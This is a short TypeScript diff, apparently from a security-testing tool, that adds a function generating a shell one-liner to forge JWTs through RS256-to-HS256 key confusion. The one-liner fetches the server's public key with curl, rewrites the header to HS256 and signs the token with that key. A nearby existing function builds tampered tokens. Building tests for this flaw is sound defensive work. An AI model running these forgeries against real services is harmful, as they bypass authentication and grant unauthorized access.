@@ -22,3 +22,14 @@ export function tamperedRecipe(from: string, to: string): string {
     `c.${TAMPER_CLAIM}="tampered";console.log(h+"."+Buffer.from(JSON.stringify(c)).toString("base64url")+"."+s)`;
   return `export ${to}="$(node -e '${js}' "${bare(from)}")"`;
 }
+
+/** forgeKeyConfusion: the real claims under `alg: HS256`, signed with the server's public key as published at `keyUrl`. */
+export function keyConfusionRecipe(from: string, to: string, keyUrl: string, jwksIndex: number | null, pem: "spki" | "spki-trimmed" | "pkcs1"): string {
+  const key = jwksIndex === null ? "process.argv[2]" : `{key:JSON.parse(process.argv[2]).keys[${jwksIndex}],format:"jwk"}`;
+  const exported = `c.createPublicKey(${key}).export({type:"${pem === "pkcs1" ? "pkcs1" : "spki"}",format:"pem"})${pem === "spki-trimmed" ? ".trimEnd()" : ""}`;
+  const js =
+    `const c=require("crypto");const [h,p]=process.argv[1].split(".");const H=JSON.parse(Buffer.from(h,"base64url"));H.alg="HS256";` +
+    `const i=Buffer.from(JSON.stringify(H)).toString("base64url")+"."+p;const k=${exported};` +
+    `console.log(i+"."+c.createHmac("sha256",k).update(i).digest("base64url"))`;
+  return `export ${to}="$(node -e '${js}' "${bare(from)}" "$(curl -s '${keyUrl}')")"`;
+}
